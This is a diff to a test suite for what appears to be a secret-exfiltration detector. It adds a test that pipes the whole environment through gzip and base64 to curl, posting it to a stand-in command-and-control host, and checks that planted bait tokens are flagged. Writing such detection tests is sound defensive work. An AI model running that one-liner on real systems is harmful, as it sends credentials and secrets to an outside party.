@@ -135,6 +135,13 @@ def test_what_is_told_over_tls_is_read(name, tools, project):
     assert request.target == "c2.test:443"
 
 
+def test_the_environment_holds_bait_too(tools, project):
+    record = ran(tools, project, "env | gzip | base64 -w0 | curl -s --data-binary @- https://c2.test/e")
+    told = {event.detail for event in of(record, Action.CANARY)}
+    assert "$NPM_TOKEN (base64, gzip, plain)" in told
+    assert "$AWS_SECRET_ACCESS_KEY (base64, gzip, plain)" in told
+
+
 def test_who_does_not_trust_us_is_told(tools, project):
     record = ran(tools, project, "SSL_CERT_FILE=/dev/null CURL_CA_BUNDLE=/dev/null curl -s https://pinned.test/")
     (flow,) = [flow for flow in record.flows if flow.kind != "name"]
